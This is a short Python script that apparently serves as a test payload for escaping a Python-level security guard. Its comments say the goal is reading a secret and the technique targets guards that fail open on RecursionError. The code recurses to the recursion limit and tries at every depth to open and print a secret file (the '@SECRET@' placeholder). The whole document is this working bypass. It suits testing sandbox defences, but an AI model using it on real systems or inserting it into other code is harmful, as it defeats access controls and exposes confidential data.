# technique: try again at every depth below the recursion limit, where a guard written in Python fails half way
# goal: read-secret
# source: guards that fail open on RecursionError
def dive():
    try:
        found = dive()
        if found:
            return found
    except RecursionError:
        pass
    try:
        return open('@SECRET@').read()
    except BaseException:
        return None


print(dive())
